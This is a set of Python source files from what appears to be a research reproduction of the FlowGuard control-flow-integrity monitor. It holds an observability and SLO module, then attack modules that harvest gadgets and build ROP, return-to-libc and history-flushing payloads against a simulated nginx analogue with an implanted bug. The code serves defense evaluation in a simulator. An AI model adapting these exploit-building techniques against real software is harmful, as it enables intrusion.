from typing import Callable, Dict, List, Optional, Sequence

from repro.telemetry.metrics import series_name
from repro.telemetry.profiler import _STATS_PHASE_MAP

_PROM_SANITIZE = str.maketrans({".": "_", "-": "_"})


def _prom_name(series: str) -> str:
    """``fleet.check_lag{kind="x"}`` -> ``("repro_fleet_check_lag",
    '{kind="x"}')`` — sanitize the metric name, keep labels verbatim."""
    name, brace, labels = series.partition("{")
    return "repro_" + name.translate(_PROM_SANITIZE), brace + labels


def _series_base(series: str) -> str:
    return series.partition("{")[0]


class TimeseriesSampler:
    """Ring-buffered snapshots of every series, on a virtual cadence.

    ``maybe_sample(now)`` is the hot hook: it returns immediately
    unless virtual time crossed the next cadence boundary, at which
    point one sample — the full metrics snapshot plus the profiler's
    phase totals — is appended to the ring.  Sampling reads state only;
    it never charges cycles.
    """

    def __init__(
        self,
        metrics,
        profiler,
        interval: float = 2000.0,
        capacity: int = 512,
    ) -> None:
        if interval <= 0:
            raise ValueError("sampler interval must be positive")
        if capacity <= 0:
            raise ValueError("sampler capacity must be positive")
        self.metrics = metrics
        self.profiler = profiler
        self.interval = float(interval)
        self.capacity = capacity
        self.samples: deque = deque(maxlen=capacity)
        #: total samples ever taken (resident + evicted).
        self.taken = 0
        self._next_at = self.interval
        #: called with each new sample (the ``repro top`` renderer).
        self.on_sample: List[Callable[[dict], None]] = []

    @property
    def dropped(self) -> int:
        return self.taken - len(self.samples)

    def maybe_sample(self, now: float) -> Optional[dict]:
        if now < self._next_at:
            return None
        return self.sample(now)

    def sample(self, now: float) -> dict:
        """Take one sample unconditionally (forced by dumps/finalize)."""
        snap = self.metrics.snapshot()
        phases = self.profiler.per_phase()
        sample = {
            "seq": self.taken,
            "t": now,
            "counters": snap["counters"],
            "gauges": snap["gauges"],
            "histograms": snap["histograms"],
            "profile": {"total": sum(phases.values()), "phases": phases},
        }
        self.samples.append(sample)
        self.taken += 1
        # Next boundary strictly after ``now``, staying on the grid.
        self._next_at = (math.floor(now / self.interval) + 1) * self.interval
        for hook in self.on_sample:
            hook(sample)
        return sample

    # -- exports -------------------------------------------------------------

    def export_jsonl(self, path: str) -> int:
        """Write the resident samples as JSON-lines; returns the count."""
        with open(path, "w", encoding="utf-8") as fh:
            for sample in self.samples:
                fh.write(json.dumps(sample, sort_keys=True))
                fh.write("\n")
        return len(self.samples)

    def render_prometheus(self) -> str:
        """The *latest* sample in Prometheus text exposition format."""
        if not self.samples:
            return ""
        last = self.samples[-1]
        lines: List[str] = []
        seen_types: set = set()

        def header(pname: str, kind: str) -> None:
            if pname not in seen_types:
                seen_types.add(pname)
                lines.append(f"# TYPE {pname} {kind}")

        for series, value in last["counters"].items():
            pname, labels = _prom_name(series)
            header(pname, "counter")
            lines.append(f"{pname}{labels} {value}")
        for series, value in last["gauges"].items():
            pname, labels = _prom_name(series)
            header(pname, "gauge")
            lines.append(f"{pname}{labels} {value}")
        for series, cell in last["histograms"].items():
            pname, labels = _prom_name(series)
            header(pname, "summary")
            inner = labels[1:-1] if labels else ""
            for q in (50, 95, 99):
                qlabels = f'quantile="0.{q}"'
                merged = f"{{{inner},{qlabels}}}" if inner else f"{{{qlabels}}}"
                lines.append(f"{pname}{merged} {cell[f'p{q}']}")
            lines.append(f"{pname}_sum{labels} {cell['sum']}")
            lines.append(f"{pname}_count{labels} {int(cell['count'])}")
        lines.append("")
        return "\n".join(lines)

    def reset(self) -> None:
        self.samples.clear()
        self.taken = 0
        self._next_at = self.interval


class FlightRecorder:
    """Bounded structured event journal with crash dumps.

    ``record`` is the hot entry: when disabled it returns before
    touching anything (no dict, no string — the zero-allocation
    contract ``tests/test_observability.py`` pins).  ``dump`` freezes
    the last ``dump_events`` events plus the last ``dump_samples``
    timeseries samples under a reason string; dumps are themselves
    bounded so a pathological run cannot grow without bail.
    """

    __slots__ = ("capacity", "dump_events", "dump_samples", "max_dumps",
                 "enabled", "events", "seq", "counts", "dumps",
                 "dumps_suppressed")

    def __init__(
        self,
        capacity: int = 256,
        dump_events: int = 64,
        dump_samples: int = 8,
        max_dumps: int = 16,
        enabled: bool = True,
    ) -> None:
        if capacity <= 0:
            raise ValueError("flight-recorder capacity must be positive")
        self.capacity = capacity
        self.dump_events = dump_events
        self.dump_samples = dump_samples
        self.max_dumps = max_dumps
        self.enabled = enabled
        self.events: deque = deque(maxlen=capacity)
        self.seq = 0
        self.counts: Dict[str, int] = {}
        self.dumps: List[dict] = []
        self.dumps_suppressed = 0

    @property
    def dropped(self) -> int:
        return self.seq - len(self.events)

    def record(
        self, kind: str, t: float, pid: int = -1, detail: str = ""
    ) -> Optional[dict]:
        if not self.enabled:
            return None
        event = {
            "seq": self.seq, "t": t, "kind": kind, "pid": pid,
            "detail": detail,
        }
        self.seq += 1
        self.events.append(event)
        self.counts[kind] = self.counts.get(kind, 0) + 1
        return event

    def dump(
        self, reason: str, t: float, sampler: Optional[TimeseriesSampler]
    ) -> Optional[dict]:
        if not self.enabled:
            return None
        if len(self.dumps) >= self.max_dumps:
            self.dumps_suppressed += 1
            return None
        tail = list(self.events)[-self.dump_events:]
        context = (
            list(sampler.samples)[-self.dump_samples:]
            if sampler is not None else []
        )
        dump = {
            "reason": reason,
            "t": t,
            "seq": self.seq,
            "events": [dict(e) for e in tail],
            "samples": [dict(s) for s in context],
        }
        self.dumps.append(dump)
        return dump

    def reset(self) -> None:
        self.events.clear()
        self.seq = 0
        self.counts.clear()
        self.dumps.clear()
        self.dumps_suppressed = 0


# -- SLO layer ---------------------------------------------------------------

#: objective kinds the engine evaluates.
OBJECTIVE_KINDS = ("histogram_quantile", "counter_window", "gauge",
                   "overhead")


@dataclass
class SLObjective:
    """One declarative objective: a bound on a signal, with a target.

    ``kind`` selects the signal:

    - ``histogram_quantile`` — exact nearest-rank ``q``-percentile of
      histogram ``metric`` at each sample (cumulative-to-date tail).
    - ``counter_window`` — the counter's *delta* across each sampler
      window.
    - ``gauge`` — the gauge's value at each sample.
    - ``overhead`` — cumulative profiler cycles over virtual time at
      each sample (the TitanCFI-style monitor-cycle budget).

    A window *complies* when the signal is ``<= max_value``; ``target``
    is the required compliance ratio (0.99 = an error budget of 1% of
    windows).  Windows where the signal is absent (metric never
    recorded yet) are not counted either way.
    """

    name: str
    kind: str
    max_value: float
    metric: str = ""
    q: int = 99
    target: float = 1.0

    def __post_init__(self) -> None:
        if self.kind not in OBJECTIVE_KINDS:
            raise ValueError(f"unknown SLO objective kind {self.kind!r}")
        if not (0.0 < self.target <= 1.0):
            raise ValueError("SLO target must be in (0, 1]")
        if self.kind in ("histogram_quantile", "counter_window", "gauge") \
                and not self.metric:
            raise ValueError(f"objective {self.name!r} needs a metric")

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "kind": self.kind,
            "max_value": self.max_value,
            "metric": self.metric,
            "q": self.q,
            "target": self.target,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "SLObjective":
        known = {"name", "kind", "max_value", "metric", "q", "target"}
        unknown = set(data) - known
        if unknown:
            raise ValueError(
                f"unknown SLObjective keys: {', '.join(sorted(unknown))}"
            )
        return cls(**data)


@dataclass
class SLOConfig:
    """The declarative objective set, JSON round-trippable."""

    objectives: List[SLObjective] = field(default_factory=list)

    def to_dict(self) -> dict:
        return {"objectives": [o.to_dict() for o in self.objectives]}

    @classmethod
    def from_dict(cls, data: dict) -> "SLOConfig":
        unknown = set(data) - {"objectives"}
        if unknown:
            raise ValueError(
                f"unknown SLOConfig keys: {', '.join(sorted(unknown))}"
            )
        return cls(objectives=[
            SLObjective.from_dict(o) for o in data.get("objectives", [])
        ])

    @classmethod
    def load(cls, path: str) -> "SLOConfig":
        with open(path, "r", encoding="utf-8") as fh:
            return cls.from_dict(json.load(fh))

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh, indent=2)
            fh.write("\n")

    @classmethod
    def default(cls) -> "SLOConfig":
        """The stock objective set for fleet runs.

        Thresholds are sized for the repo's default fleet shapes (the
        ``experiments/observability.py`` clean run must meet all of
        them); a fault-injected run burns ``degradation-free`` budget.
        """
        return cls(objectives=[
            SLObjective(
                name="checker-lag-p99",
                kind="histogram_quantile",
                metric="fleet.check_lag",
                q=99,
                max_value=300_000.0,
                target=0.95,
            ),
            SLObjective(
                name="detection-latency-p99",
                kind="histogram_quantile",
                metric="fleet.detection_latency",
                q=99,
                max_value=300_000.0,
                target=1.0,
            ),
            SLObjective(
                name="monitor-cycle-budget",
                kind="overhead",
                max_value=6.0,
                target=0.9,
            ),
            SLObjective(
                name="degradation-free",
                kind="counter_window",
                metric="resilience.events",
                max_value=0.0,
                target=0.9,
            ),
        ])


class SLOEngine:
    """Evaluates an :class:`SLOConfig` over sampler windows."""

    #: burn values are capped here so a zero error budget reports a
    #: finite (but unmistakable) burn instead of infinity.
    BURN_CAP = 100.0

    def __init__(self, config: SLOConfig) -> None:
        self.config = config

    # -- signal extraction ---------------------------------------------------

    @staticmethod
    def _matching(series_map: dict, metric: str) -> Dict[str, object]:
        return {
            series: value for series, value in series_map.items()
            if _series_base(series) == metric
        }

    def _value_at(self, obj: SLObjective, sample: dict,
                  prev: Optional[dict]) -> Optional[float]:
        """The objective's merged signal at one sample (None = absent)."""
        if obj.kind == "histogram_quantile":
            cells = self._matching(sample["histograms"], obj.metric)
            if not cells:
                return None
            # Unlabeled series preferred; otherwise the worst labeled
            # series bounds the merged percentile from above.
            cell = cells.get(obj.metric)
            if cell is not None:
                return cell[f"p{obj.q}"]
            return max(c[f"p{obj.q}"] for c in cells.values())
        if obj.kind == "counter_window":
            cur = self._matching(sample["counters"], obj.metric)
            if not cur and prev is None:
                return None
            before = self._matching(prev["counters"], obj.metric) \
                if prev is not None else {}
            if not cur and not before:
                return None
            return sum(cur.values()) - sum(before.values())
        if obj.kind == "gauge":
            cells = self._matching(sample["gauges"], obj.metric)
            if not cells:
                return None
            if obj.metric in cells:
                return cells[obj.metric]
            return max(cells.values())
        # overhead: cumulative monitor cycles over virtual time.
        t = sample["t"]
        if t <= 0:
            return None
        return sample["profile"]["total"] / t

    def _series_value_at(self, obj: SLObjective, series: str,
                         sample: dict, prev: Optional[dict]
                         ) -> Optional[float]:
        if obj.kind == "histogram_quantile":
            cell = sample["histograms"].get(series)
            return None if cell is None else cell[f"p{obj.q}"]
        if obj.kind == "counter_window":
            cur = sample["counters"].get(series)
            before = prev["counters"].get(series, 0.0) \
                if prev is not None else 0.0
            if cur is None:
                return None if before == 0.0 else -before
            return cur - before
        if obj.kind == "gauge":
            return sample["gauges"].get(series)
        return None

    # -- evaluation ----------------------------------------------------------

    def evaluate(self, samples: Sequence[dict]) -> dict:
        """Error-budget report over the sampled windows."""
        samples = list(samples)
        objectives = []
        all_met = True
        for obj in self.config.objectives:
            windows = 0
            violations = 0
            worst: Optional[float] = None
            prev: Optional[dict] = None
            series_stats: Dict[str, dict] = {}
            for sample in samples:
                value = self._value_at(obj, sample, prev)
                if value is not None:
                    windows += 1
                    if value > obj.max_value:
                        violations += 1
                    if worst is None or value > worst:
                        worst = value
                if obj.kind in ("histogram_quantile", "counter_window",
                                "gauge"):
                    group = ("histograms"
                             if obj.kind == "histogram_quantile"
                             else "counters" if obj.kind == "counter_window"
                             else "gauges")
                    for series in self._matching(sample[group], obj.metric):
                        sval = self._series_value_at(obj, series, sample,
                                                     prev)
                        if sval is None:
                            continue
                        cell = series_stats.setdefault(
                            series,
                            {"windows": 0, "violations": 0, "worst": None},
                        )
                        cell["windows"] += 1
                        if sval > obj.max_value:
                            cell["violations"] += 1
                        if cell["worst"] is None or sval > cell["worst"]:
                            cell["worst"] = sval
                prev = sample
            compliance = 1.0 if windows == 0 else 1.0 - violations / windows
            error_budget = max(0.0, 1.0 - obj.target)
            if violations == 0:
                burn = 0.0
            elif error_budget <= 0.0:
                burn = self.BURN_CAP
            else:
                burn = min(self.BURN_CAP,
                           (violations / windows) / error_budget)
            met = compliance >= obj.target - 1e-12
            all_met = all_met and met
            objectives.append({
                **obj.to_dict(),
                "windows": windows,
                "violations": violations,
                "compliance": compliance,
                "worst": worst,
                "budget_burn": burn,
                "met": met,
                "breakdown": {
                    series: series_stats[series]
                    for series in sorted(series_stats)
                },
            })
        return {
            "objectives": objectives,
            "met": all_met,
            "total_burn": sum(o["budget_burn"] for o in objectives),
        }


# -- the plane ---------------------------------------------------------------

class ObservabilityPlane:
    """Sampler + flight recorder + SLO engine, wired into the pipeline.

    Hook points (each call site guards on ``telemetry.plane is not
    None`` so an absent plane costs one attribute read):

    - ``Kernel.step``                 -> :meth:`on_step`
    - ``FleetClock.unpin/advance_to`` -> :meth:`maybe_sample`
    - ``FlowGuardMonitor._run_check`` -> :meth:`on_check`
    - ``DegradationLedger.record``    -> :meth:`on_degradation`
    - ``SegmentDecodeCache``          -> :meth:`on_cache_event`
    - reconciliation call sites       -> :meth:`check_reconciliation`
    """

    def __init__(
        self,
        interval: float = 2000.0,
        sampler_capacity: int = 512,
        flight_capacity: int = 256,
        slo: Optional[SLOConfig] = None,
        telemetry=None,
    ) -> None:
        if telemetry is None:
            from repro.telemetry import get_telemetry  # lazy: avoid cycle

            telemetry = get_telemetry()
        self.telemetry = telemetry
        self.sampler = TimeseriesSampler(
            telemetry.metrics, telemetry.profiler,
            interval=interval, capacity=sampler_capacity,
        )
        self.flight = FlightRecorder(capacity=flight_capacity)
        self.slo = slo if slo is not None else SLOConfig.default()
        self.engine = SLOEngine(self.slo)
        self.clock = None
        #: per-kind degradation tallies mirrored from the ledger hook —
        #: must reconcile exactly with ledger + counter.
        self._ledger_counts: Dict[str, int] = {}
        self._ledger_by_pid: Dict[str, int] = {}
        self._finalized = False

    # -- time ----------------------------------------------------------------

    def bind_clock(self, clock) -> None:
        """Adopt the fleet clock as the plane's time source; the clock
        calls :meth:`maybe_sample` on every tick (unpin / jump)."""
        self.clock = clock
        clock.plane = self

    def now(self, fallback: float = 0.0) -> float:
        if self.clock is not None:
            return self.clock.now
        return fallback

    def maybe_sample(self, now: float) -> Optional[dict]:
        return self.sampler.maybe_sample(now)

    # -- pipeline hooks ------------------------------------------------------

    def on_step(self, proc) -> None:
        """``Kernel.step`` boundary: solo runs sample on process time."""
        self.sampler.maybe_sample(self.now(proc.executor.cycles))

    def on_check(self, pp, nr: int, verdict) -> None:
        """Every monitor check: journal the verdict; dump on VIOLATION."""
        t = self.now(pp.process.executor.cycles)
        value = getattr(verdict, "value", verdict)
        self.flight.record(
            "verdict", t, pid=pp.process.pid,
            detail=f"syscall={nr} verdict={value}",
        )
        if value == "violation":
            self.sampler.sample(t)
            self.flight.dump(
                f"VIOLATION pid={pp.process.pid} syscall={nr}", t,
                self.sampler,
            )
        else:
            self.sampler.maybe_sample(t)

    def on_degradation(self, event) -> None:
        """Mirror of ``DegradationLedger.record`` (quarantines, fault
        injections, dead letters, PSB re-syncs, cache bypasses...)."""
        t = event.at if event.at else self.now()
        self.flight.record(event.kind, t, pid=event.pid,
                           detail=event.detail)
        self._ledger_counts[event.kind] = \
            self._ledger_counts.get(event.kind, 0) + 1
        key = series_name(event.kind, (("pid", str(event.pid)),))
        self._ledger_by_pid[key] = self._ledger_by_pid.get(key, 0) + 1

    def on_cache_event(self, kind: str, detail: str = "") -> None:
        """Segment-cache state transitions (insert / evict)."""
        self.flight.record(kind, self.now(), detail=detail)

    # -- drift dumps ---------------------------------------------------------

    def record_drift(self, what: str) -> None:
        t = self.now()
        self.flight.record("ledger-drift", t, detail=what)
        self.sampler.sample(t)
        self.flight.dump(f"ledger drift: {what}", t, self.sampler)

    def check_reconciliation(self, what: str,
                             report: Optional[dict]) -> bool:
        """Auto-dump when a reconciliation report came back inexact."""
        if report is not None and not report.get("exact", True):
            self.record_drift(what)
            return False
        return True

    # -- reporting -----------------------------------------------------------

    def finalize(self, now: Optional[float] = None) -> None:
        """Take the closing sample (idempotent)."""
        if self._finalized:
            return
        self.sampler.sample(self.now() if now is None else now)
        self._finalized = True

    def slo_report(self) -> dict:
        """SLO verdicts + plane health, for StatsReport's ``slo``
        section (schema v3)."""
        self.finalize()
        report = self.engine.evaluate(self.sampler.samples)
        report["sampler"] = {
            "interval": self.sampler.interval,
            "samples": self.sampler.taken,
            "resident": len(self.sampler.samples),
            "dropped": self.sampler.dropped,
        }
        report["flight"] = {
            "events": self.flight.seq,
            "resident": len(self.flight.events),
            "dropped": self.flight.dropped,
            "counts": dict(sorted(self.flight.counts.items())),
            "dumps": len(self.flight.dumps),
            "dumps_suppressed": self.flight.dumps_suppressed,
        }
        report["degradations_by_pid"] = dict(
            sorted(self._ledger_by_pid.items())
        )
        return report

    def reconcile(self, stats_list, ledger=None) -> dict:
        """Exact-accounting audit of everything the plane observed.

        - the final sample's profiler phases must equal the summed
          ``MonitorStats`` accumulators (same map the profiler uses),
        - the final sample's ``monitor.checks`` counter must equal the
          summed ``stats.checks`` — and the flight recorder must hold
          one ``verdict`` event per check,
        - per degradation kind, the flight tally, the sampled
          ``resilience.events`` counter and the ledger's
          telemetry-enabled counts must agree exactly.

        ``ledger`` may be one :class:`DegradationLedger` or a sequence
        of them (service mode: one tenant-scoped ledger per tenant,
        all mirrored into this one plane); the per-kind audit then runs
        against their summed telemetry counts, with tenant-labeled
        counter series folded back into per-kind totals.
        """
        self.finalize()
        stats_list = list(stats_list)
        last = self.sampler.samples[-1]
        report: Dict[str, object] = {}
        exact = True

        phases = last["profile"]["phases"]
        for attr, phase_names in _STATS_PHASE_MAP.items():
            sampled = sum(phases.get(p, 0.0) for p in phase_names)
            expected = sum(getattr(s, attr) for s in stats_list)
            ok = math.isclose(sampled, expected, rel_tol=1e-9, abs_tol=1e-6)
            exact = exact and ok
            report[attr] = {"sampled": sampled, "stats": expected, "ok": ok}

        checks_sampled = sum(
            value for series, value in last["counters"].items()
            if _series_base(series) == "monitor.checks"
        )
        checks_expected = sum(s.checks for s in stats_list)
        verdict_events = self.flight.counts.get("verdict", 0)
        ok = (int(checks_sampled) == checks_expected
              and verdict_events == checks_expected)
        exact = exact and ok
        report["checks"] = {
            "sampled": int(checks_sampled),
            "stats": checks_expected,
            "flight_verdicts": verdict_events,
            "ok": ok,
        }

        if ledger is not None:
            kinds: Dict[str, dict] = {}
            ledgers = (
                [ledger] if hasattr(ledger, "telemetry_counts")
                else list(ledger)
            )
            ledger_counts: Dict[str, int] = {}
            for one in ledgers:
                for kind, count in one.telemetry_counts().items():
                    ledger_counts[kind] = ledger_counts.get(kind, 0) + count
            # Tenant-labeled series of the same kind fold into one
            # per-kind total (the flight recorder tallies by kind).
            sampled_counts: Dict[str, int] = {}
            for series, value in last["counters"].items():
                if _series_base(series) == "resilience.events":
                    kind = _series_label(series, "kind")
                    sampled_counts[kind] = (
                        sampled_counts.get(kind, 0) + int(value)
                    )
            for kind in sorted(set(ledger_counts) | set(sampled_counts)
                               | set(self._ledger_counts)):
                row = {
                    "ledger": ledger_counts.get(kind, 0),
                    "counter": sampled_counts.get(kind, 0),
                    "flight": self._ledger_counts.get(kind, 0),
                }
                row["ok"] = (row["ledger"] == row["counter"]
                             == row["flight"])
                exact = exact and row["ok"]
                kinds[kind] = row
            report["degradations"] = kinds

        report["exact"] = exact
        if not exact:
            self.record_drift("plane reconcile")
        return report

    # -- export --------------------------------------------------------------

    def to_dict(self) -> dict:
        """Self-contained dump: samples + flight journal + SLO report
        (the payload ``repro report`` renders)."""
        return {
            "kind": "plane-dump",
            "interval": self.sampler.interval,
            "samples": [dict(s) for s in self.sampler.samples],
            "flight": {
                "events": [dict(e) for e in self.flight.events],
                "counts": dict(sorted(self.flight.counts.items())),
                "dropped": self.flight.dropped,
            },
            "dumps": list(self.flight.dumps),
            "slo": self.slo_report(),
            "slo_config": self.slo.to_dict(),
        }

    def export(self, path: str) -> str:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh, indent=2)
            fh.write("\n")
        return path

    def reset(self) -> None:
        self.sampler.reset()
        self.flight.reset()
        self._ledger_counts.clear()
        self._ledger_by_pid.clear()
        self._finalized = False


def _series_label(series: str, label: str) -> str:
    """Extract one label value from a rendered series name."""
    _, brace, rest = series.partition("{")
    if not brace:
        return ""
    for pair in rest.rstrip("}").split(","):
        key, _, value = pair.partition("=")
        if key == label:
            return value.strip('"')
    return ""
