"""History-flushing attack (Carlini & Wagner, §7.1.1).

Pads the chain with dozens of "NOP-like" whole-function gadgets
(``free`` returns immediately) before the termination gadget, pushing
the *initial* hijack more than ``pkt_count`` TIP packets into the past.
This defeats small-window heuristics (kBouncer's 16-entry LBR), but not
FlowGuard: each flushing hop is itself a return to a function entry —
an edge outside the ITC-CFG — so the recent window still contains
violations.  Flushing *within* the graph would require 30+ NOP gadgets
chained along high-credit edges, which the training-derived labels make
"significantly more difficult than chaining arbitrary and CFG-agnostic
gadgets".
"""

from __future__ import annotations

import struct
from typing import Optional

from repro.attacks.gadgets import GadgetMap, find_gadgets
from repro.attacks.recon import ReconReport
from repro.attacks.rop import ATTACK_DATA, build_filler, frame_glue
from repro.osmodel.syscalls import O_CREAT, O_WRONLY


def _p64(value: int) -> bytes:
    return struct.pack("<Q", value & 0xFFFFFFFFFFFFFFFF)


def build_flushing_payload(
    recon: ReconReport,
    conn_fd: int = 4,
    nop_gadgets: int = 40,
    gadgets: Optional[GadgetMap] = None,
) -> bytes:
    gadgets = gadgets if gadgets is not None else find_gadgets(recon.image)
    setcontext = gadgets.functions["setcontext"]
    free_fn = gadgets.functions["free"]
    open_fn = gadgets.functions["open"]
    write_fn = gadgets.functions["write"]
    exit_fn = gadgets.functions["exit"]

    filler, path_addr, data_addr = build_filler(recon.body_addr)
    flush = b"".join(_p64(free_fn) for _ in range(nop_gadgets))
    chain = b"".join(
        [
            _p64(setcontext),
            _p64(path_addr),
            _p64(O_CREAT | O_WRONLY),
            _p64(0),
            _p64(0),
            _p64(open_fn),
            _p64(setcontext),
            _p64(recon.next_open_fd),
            _p64(data_addr),
            _p64(len(ATTACK_DATA)),
            _p64(0),
            _p64(write_fn),
            _p64(exit_fn),
        ]
    )
    return filler + frame_glue(recon, conn_fd) + flush + chain


def build_flushing_request(
    recon: ReconReport, conn_fd: int = 4, nop_gadgets: int = 40
) -> bytes:
    from repro.workloads.servers import nginx_request

    return nginx_request(
        "/x", "POST",
        build_flushing_payload(recon, conn_fd, nop_gadgets),
    )
