"""Gadget discovery over a loaded image.

The attacker disassembles the (deterministically loaded, no-ASLR) image
and harvests:

- register-control gadgets: ``pop rX; ...; ret`` runs (libsim's
  ``setcontext`` is the jackpot),
- ``syscall; ret`` gadgets (every syscall wrapper tail),
- whole-function "call gadgets": entries of ABI-respecting functions
  that can be chained by return because their epilogues restore the
  stack exactly (ret-to-libc style).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.binary.loader import Image, LoadedModule
from repro.isa.encoding import DecodeError, decode_at
from repro.isa.instructions import Op
from repro.isa.registers import FP as _FP_REG, SP as _SP_REG


@dataclass
class GadgetMap:
    """Harvested gadget addresses (absolute)."""

    #: run of pops -> gadget address, keyed by the popped register tuple.
    pop_chains: Dict[Tuple[int, ...], int] = field(default_factory=dict)
    #: addresses of `syscall` instructions directly followed by `ret`.
    syscall_ret: List[int] = field(default_factory=list)
    #: exported function entries by name ("call gadgets").
    functions: Dict[str, int] = field(default_factory=dict)
    #: `mov sp, fp; pop fp; ret` epilogues — stack-pivot gadgets: with a
    #: corrupted frame pointer they move SP anywhere the attacker likes.
    epilogues: List[int] = field(default_factory=list)

    def best_pop_chain(self) -> Tuple[Tuple[int, ...], int]:
        """The longest pop run (most register control per slot)."""
        if not self.pop_chains:
            raise LookupError("no pop gadgets found")
        regs = max(self.pop_chains, key=len)
        return regs, self.pop_chains[regs]


def _scan_module(lm: LoadedModule, gadgets: GadgetMap) -> None:
    code = lm.module.code
    # Linear sweep; on desync skip a byte (attacker-style scanning).
    pos = 0
    while pos < len(code):
        try:
            insn, length = decode_at(code, pos)
        except DecodeError:
            pos += 1
            continue
        if insn.op is Op.POP:
            regs: List[int] = []
            cursor = pos
            while cursor < len(code):
                try:
                    nxt, nlen = decode_at(code, cursor)
                except DecodeError:
                    break
                if nxt.op is Op.POP:
                    regs.append(nxt.rd)
                    cursor += nlen
                    continue
                if nxt.op is Op.RET and regs:
                    key = tuple(regs)
                    gadgets.pop_chains.setdefault(key, lm.base + pos)
                break
        if insn.op is Op.SYSCALL:
            try:
                nxt, _ = decode_at(code, pos + length)
                if nxt.op is Op.RET:
                    gadgets.syscall_ret.append(lm.base + pos)
            except DecodeError:
                pass
        if (
            insn.op is Op.MOV_RR
            and insn.rd == _SP_REG
            and insn.rs == _FP_REG
        ):
            try:
                pop, pop_len = decode_at(code, pos + length)
                ret, _ = decode_at(code, pos + length + pop_len)
                if (pop.op is Op.POP and pop.rd == _FP_REG
                        and ret.op is Op.RET):
                    gadgets.epilogues.append(lm.base + pos)
            except DecodeError:
                pass
        pos += length


def find_gadgets(image: Image) -> GadgetMap:
    """Harvest gadgets from every module of a loaded image."""
    gadgets = GadgetMap()
    for lm in image.all_modules():
        _scan_module(lm, gadgets)
        for sym in lm.module.symbols.values():
            if sym.is_function:
                gadgets.functions.setdefault(sym.name, lm.base + sym.offset)
    return gadgets
