"""Return-to-lib(c) attack variant (§7.1.1).

The chain never issues a syscall of its own — it returns into the
library's composite ``write_str`` routine, which performs the sensitive
``write`` internally ("attackers invoke lib-calls instead of sys-calls
to trigger security-sensitive endpoints").  Because FlowGuard checks at
least ``pkt_count`` TIPs *spanning the executable and libraries*, the
hijacked edge before the library call is still inside the window.
"""

from __future__ import annotations

import struct
from typing import Optional

from repro.attacks.gadgets import GadgetMap, find_gadgets
from repro.attacks.recon import ReconReport
from repro.attacks.rop import build_filler, frame_glue


def _p64(value: int) -> bytes:
    return struct.pack("<Q", value & 0xFFFFFFFFFFFFFFFF)


def build_retlib_payload(
    recon: ReconReport,
    conn_fd: int = 4,
    gadgets: Optional[GadgetMap] = None,
) -> bytes:
    gadgets = gadgets if gadgets is not None else find_gadgets(recon.image)
    setcontext = gadgets.functions["setcontext"]
    write_str = gadgets.functions["write_str"]
    exit_fn = gadgets.functions["exit"]

    filler, path_addr, _ = build_filler(recon.body_addr)
    chain = b"".join(
        [
            # write_str(stdout, attacker_string) — the lib call does the
            # strlen + write internally.
            _p64(setcontext),
            _p64(1),
            _p64(path_addr),
            _p64(0),
            _p64(0),
            _p64(write_str),
            _p64(exit_fn),
        ]
    )
    return filler + frame_glue(recon, conn_fd) + chain


def build_retlib_request(recon: ReconReport, conn_fd: int = 4) -> bytes:
    from repro.workloads.servers import nginx_request

    return nginx_request("/x", "POST",
                         build_retlib_payload(recon, conn_fd))
