"""Attacker reconnaissance: derive runtime constants by dry-running.

With no ASLR (§3.3) the stack layout and fd allocation are
deterministic, so the attacker rehearses the exact connection sequence
against their own copy of the server and records:

- the absolute stack address of the vulnerable POST body buffer (the
  ``buf`` argument of the body-sized ``read``), letting the payload
  embed strings and point at them,
- the fd number the *next* ``open`` in the hijacked flow will return,
  so a two-stage open-then-write chain can hardcode it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

from repro.binary.loader import Image, Loader
from repro.binary.module import Module
from repro.isa.registers import R2, R3
from repro.osmodel.kernel import Kernel
from repro.osmodel.syscalls import Sys
from repro.workloads.servers import nginx_request


@dataclass
class ReconReport:
    """What the rehearsal run learned."""

    body_addr: int
    next_open_fd: int
    image: Image  # the attacker's copy: identical layout to the target


def run_recon(
    exe: Module,
    libraries: Dict[str, Module],
    vdso: Optional[Module] = None,
    program: str = "nginx",
    marker_len: int = 48,
) -> ReconReport:
    """Rehearse one POST request; capture body address and fd state."""
    kernel = Kernel()
    kernel.register_program(program, exe, libraries, vdso=vdso)
    proc = kernel.spawn(program)
    proc.push_connection(
        nginx_request("/probe", "POST", b"A" * marker_len)
    )

    captured: Dict[str, int] = {}
    original_read = kernel.syscall_table[int(Sys.READ)]

    def spy_read(k, p):
        # The body read is the only read with the marker length.
        if p.machine.reg(R3) == marker_len and "body" not in captured:
            captured["body"] = p.machine.reg(R2)
        return original_read(k, p)

    kernel.install_handler(Sys.READ, spy_read)
    kernel.run(proc)
    if "body" not in captured:
        raise RuntimeError("recon failed: body read not observed")

    # fd prediction: replay allocation arithmetic.  During the exploit
    # request the server consumes the same fds as this rehearsal did,
    # so the hijacked open() returns exactly the rehearsal's next_fd.
    next_open_fd = proc.next_fd

    # The attacker's own loaded copy for address harvesting.
    image = Loader(libraries, vdso=vdso).load(exe)
    return ReconReport(
        body_addr=captured["body"],
        next_open_fd=next_open_fd,
        image=image,
    )
