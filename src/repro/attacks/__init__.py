"""Control-flow hijacking attacks against the nginx analogue (§7.1.2).

The adversary model matches §3.3: a remote attacker who knows everything
about the application (no ASLR assumed), constructing elaborate inputs
against the implanted Content-Length vulnerability.  Both attack routes
end the same way the paper's do — writing arbitrary data into a
specified file — and are detected at the ``write`` syscall (ROP) and the
``sigreturn`` syscall (SROP) respectively.
"""

from repro.attacks.recon import ReconReport, run_recon
from repro.attacks.gadgets import GadgetMap, find_gadgets
from repro.attacks.rop import build_rop_request
from repro.attacks.srop import build_srop_request
from repro.attacks.retlib import build_retlib_request
from repro.attacks.flushing import build_flushing_request

__all__ = [
    "GadgetMap",
    "ReconReport",
    "build_flushing_request",
    "build_retlib_request",
    "build_rop_request",
    "build_srop_request",
    "find_gadgets",
    "run_recon",
]
