"""Sigreturn-oriented programming (SROP, Bosman & Bos) on the nginx
analogue (§7.1.2).

The payload pivots into the kernel's unauthenticated signal-frame
restore: one hijacked return into libsim's raw ``sigreturn`` wrapper
leaves SP pointing at a forged frame, giving the attacker *every*
register at once — ip lands on the wrapper's own ``syscall; ret``
